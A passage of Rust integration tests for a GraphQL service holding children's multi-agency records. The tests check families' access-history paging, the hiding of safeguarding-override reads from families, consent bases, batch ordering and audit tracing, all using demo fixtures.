        "{items:#?}"
    );

    // Pages.
    let first = app
        .graphql_as(
            Some(&parent),
            None,
            HISTORY,
            json!({ "id": AMIRA, "first": 3 }),
        )
        .await;
    assert_eq!(history_items(&first), items[..3].to_vec());
    let info = &first.body["data"]["accessHistory"]["pageInfo"];
    assert_eq!(info["hasNextPage"], true, "{first:?}");
    let rest = app
        .graphql_as(
            Some(&parent),
            None,
            HISTORY,
            json!({ "id": AMIRA, "first": 3, "after": info["endCursor"] }),
        )
        .await;
    assert_eq!(history_items(&rest), items[3..].to_vec());
    assert_eq!(
        rest.body["data"]["accessHistory"]["pageInfo"]["hasNextPage"],
        false
    );

    // Another family's child, or none at all: the same NOT_FOUND.
    let other = app
        .graphql_as(Some(&parent), None, HISTORY, json!({ "id": JAYDEN }))
        .await;
    let missing = app
        .graphql_as(
            Some(&parent),
            None,
            HISTORY,
            json!({ "id": Uuid::new_v4() }),
        )
        .await;
    assert_eq!(other.codes(), vec!["NOT_FOUND"], "{other:?}");
    assert_eq!(other.body, missing.body);

    // Practitioners see neither the family's history nor the IG trace.
    let senco = app.graphql("senco", HISTORY, json!({ "id": AMIRA })).await;
    let code = senco.codes();
    assert!(
        code == vec!["NOT_FOUND"] || code == vec!["FORBIDDEN"],
        "{senco:?}"
    );
    assert!(senco.body["data"].is_null(), "{senco:?}");
    let search = trace_query();
    for persona in ["senco", "parent", "case-officer"] {
        for query in [search.as_str(), INTEGRITY] {
            let answer = app.graphql(persona, query, json!({})).await;
            assert_eq!(answer.codes(), vec!["FORBIDDEN"], "{persona}: {answer:?}");
            assert!(answer.body["data"].is_null(), "{persona}: {answer:?}");
        }
    }
}

#[tokio::test]
async fn families_see_the_practitioner_where_the_hub_is_set_to_show_them() {
    let app = spawn_app_with(|s| s.show_practitioners_to_families = true).await;
    app.graphql("senco", READ, json!({ "id": AMIRA })).await;
    let history = app
        .graphql_as(
            Some(&app.token_for("parent")),
            None,
            HISTORY,
            json!({ "id": AMIRA }),
        )
        .await;
    let items = history_items(&history);
    assert_eq!(items.len(), 1, "{history:?}");
    assert_eq!(items[0]["practitioner"], "test-senco");
}

/// A family member's token (Jayden's mother).
fn leanne_token(app: &TestApp) -> String {
    let mut claims = app.claims_for("parent");
    claims["sub"] = json!("test-demo-person-leanne-clarke");
    claims["person_id"] = json!("demo-person-leanne-clarke");
    app.hs256(&claims)
}

const SAFEGUARDING_READ: &str =
    "query($id: ID!) { child(id: $id) { restricted { kind } socialCare { shortBreaks } } }";

#[tokio::test]
async fn families_are_not_shown_reads_under_an_override_kept_from_them() {
    for tell_family in [true, false] {
        let app = spawn_app().await;
        let lead = app.token_for("social-worker");
        let mut input = declare_input(JAYDEN);
        input["input"]["tellFamily"] = json!(tell_family);
        let declared = app
            .graphql_as(Some(&lead), Some("SAFEGUARDING"), DECLARE, input)
            .await;
        assert!(declared.body["errors"].is_null(), "{declared:?}");
        let sg = app
            .graphql_as(
                Some(&lead),
                Some("SAFEGUARDING"),
                SAFEGUARDING_READ,
                json!({ "id": JAYDEN }),
            )
            .await;
        assert!(sg.body["data"]["child"]["restricted"].is_array(), "{sg:?}");
        let yot = app.graphql("yot", READ, json!({ "id": JAYDEN })).await;
        assert!(yot.body["data"]["child"].is_object(), "{yot:?}");
        // IG staff see the override read.
        let overrides = trace(&app, json!({ "overridesOnly": true })).await;
        assert_eq!(overrides.len(), 1, "{overrides:#?}");

        let history = app
            .graphql_as(
                Some(&leanne_token(&app)),
                None,
                HISTORY,
                json!({ "id": JAYDEN }),
            )
            .await;
        let items = history_items(&history);
        let youth_justice = items
            .iter()
            .filter(|i| i["agencyName"] == "Northshire Youth Justice Service")
            .count();
        assert_eq!(youth_justice, 1, "tell_family {tell_family}: {items:#?}");
        let under_override: Vec<&Value> = items
            .iter()
            .filter(|i| {
                i["purpose"] == "SAFEGUARDING" || strings(&i["basis"]).contains("SAFEGUARDING")
            })
            .collect();
        if tell_family {
            assert_eq!(under_override.len(), 1, "{items:#?}");
        } else {
            assert!(
                under_override.is_empty(),
                "a read under an override withheld from the family is shown to them: {items:#?}"
            );
            assert_eq!(items.len(), 1, "{items:#?}");
        }
    }
}

// ---- findings of the review -------------------------------------------------

/// Reading your own contributions adds an OWN_CONTRIBUTION basis; it never
/// replaces the consent basis of the section read in the same request.
#[tokio::test]
async fn own_contributions_do_not_hide_the_consent_basis() {
    let app = spawn_app().await;
    let contributed = app
        .graphql(
            "camhs",
            "mutation($c: ID!) { contribute(childId: $c, input: { scope: MENTAL_HEALTH, title: \"Triage\" }) { id } }",
            json!({ "c": AMIRA }),
        )
        .await;
    assert!(
        contributed.body["data"]["contribute"]["id"].is_string(),
        "{contributed:?}"
    );
    let read = app
        .graphql(
            "camhs",
            "query($id: ID!) { child(id: $id) { mentalHealth { camhsStatus } contributions { title } } }",
            json!({ "id": AMIRA }),
        )
        .await;
    assert!(read.body["errors"].is_null(), "{read:?}");
    let entry = only_entry(
        &app,
        json!({ "childId": AMIRA, "action": "READ", "actorSubject": "test-camhs" }),
    )
    .await;
    let bases: Vec<(String, String)> = entry["basis"]
        .as_array()
        .expect("basis")
        .iter()
        .map(|b| {
            (
                b["scope"].as_str().unwrap_or_default().to_owned(),
                b["kind"].as_str().unwrap_or_default().to_owned(),
            )
        })
        .collect();
    assert!(
        bases.contains(&("MENTAL_HEALTH".into(), "CONSENT".into())),
        "{entry}"
    );
    assert!(
        bases.contains(&("MENTAL_HEALTH".into(), "OWN_CONTRIBUTION".into())),
        "{entry}"
    );
    let grant = entry["basis"]
        .as_array()
        .expect("basis")
        .iter()
        .find(|b| b["kind"] == "CONSENT")
        .map(|b| b["grantIds"].clone());
    assert_eq!(grant, Some(json!([CAMHS_GRANT.to_string()])), "{entry}");
}

/// What the holder of an override kept from the family did for
/// safeguarding stays out of the family's history, whatever its basis, and
/// paging past hidden entries still moves on.
#[tokio::test]
async fn family_history_hides_everything_an_undisclosed_override_holder_did() {
    let app = spawn_app().await;
    let lead = app.token_for("social-worker");
    let sg = Some("SAFEGUARDING");
    let declared = app
        .graphql_as(Some(&lead), sg, DECLARE, declare_input(AMIRA))
        .await;
    assert!(
        declared.body["data"]["declareSafeguardingOverride"]["id"].is_string(),
        "{declared:?}"
    );
    for query in [
        "query($id: ID!) { child(id: $id) { access { scope allowed } } }",
        "query($id: ID!) { child(id: $id) { identity { givenName } } }",
        "query($id: ID!) { child(id: $id) { socialCare { shortBreaks } } }",
    ] {
        let answer = app
            .graphql_as(Some(&lead), sg, query, json!({ "id": AMIRA }))
            .await;
        assert!(answer.body["data"]["child"].is_object(), "{answer:?}");
    }
    // A read the family should see, after the hidden ones.
    app.graphql("senco", READ, json!({ "id": AMIRA })).await;
    let parent = app.token_for("parent");
    let mut seen = Vec::new();
    let mut after: Option<String> = None;
    for _ in 0..10 {
        let page = app
            .graphql_as(
                Some(&parent),
                None,
                HISTORY,
                json!({ "id": AMIRA, "first": 1, "after": after }),
            )
            .await;
        let connection = &page.body["data"]["accessHistory"];
        seen.extend(
            connection["edges"]
                .as_array()
                .expect("edges")
                .iter()
                .map(|e| e["node"].clone()),
        );
        if connection["pageInfo"]["hasNextPage"] != true {
            break;
        }
        after = connection["pageInfo"]["endCursor"]
            .as_str()
            .map(str::to_owned);
        assert!(after.is_some(), "paging stalled: {page:?}");
    }
    let text = json!(seen).to_string();
    assert!(!text.contains("Social Care"), "{text}");
    assert!(!text.contains("SAFEGUARDING"), "{text}");
    assert!(text.contains("Riverside Primary School"), "{text}");
}

/// A batch runs in order: a read after a withdrawal in the same batch does
/// not see the withdrawn scope, and its entry does not cite the grant.
#[tokio::test]
async fn a_batch_runs_in_order() {
    let app = spawn_app().await;
    // The parent withdraws CAMHS's grant, then (same batch) reads as herself;
    // CAMHS reads right after in its own request.
    let parent = app.token_for("parent");
    let batch = json!([
        { "query": WITHDRAW, "variables": { "id": CAMHS_GRANT } },
        { "query": "query($id: ID!) { child(id: $id) { identity { givenName } } }", "variables": { "id": AMIRA } },
    ]);
    let answer = app.post_json(Some(&parent), None, &batch).await;
    assert!(
        answer.body[0]["data"]["withdrawConsent"]["grantId"].is_string(),
        "{answer:?}"
    );
    let read = app
        .graphql("camhs", READ_CAMHS, json!({ "id": AMIRA }))
        .await;
    assert!(
        read.body["data"]["child"]["mentalHealth"].is_null(),
        "{read:?}"
    );
    let entries = trace(&app, json!({ "childId": AMIRA })).await;
    let withdrawn_at = entries
        .iter()
        .find(|e| e["action"] == "CONSENT_WITHDRAWN")
        .map(seq)
        .expect("withdrawal");
    let parent_read = entries
        .iter()
        .find(|e| e["action"] == "READ" && e["actorSubject"] == "test-parent")
        .map(seq)
        .expect("parent read");
    assert!(withdrawn_at < parent_read, "{entries:#?}");
}

/// Reading the advice requests addressed to your agency is traced.
#[tokio::test]
async fn reading_advice_requests_is_traced() {
    let app = spawn_app().await;
    let answer = app
        .graphql("camhs", "{ adviceRequests { id childId } }", json!({}))
        .await;
    let requests = answer.body["data"]["adviceRequests"]
        .as_array()
        .expect("requests")
        .clone();
    assert!(
        !requests.is_empty(),
        "the demo asks CAMHS about Jayden: {answer:?}"
    );
    let entries = trace(
        &app,
        json!({ "actorSubject": "test-camhs", "action": "READ" }),
    )
    .await;
    assert_eq!(entries.len(), requests.len(), "{entries:#?}");
    assert!(
        entries
            .iter()
            .all(|e| detail(e, "view") == Some("advice_requests"))
    );
}
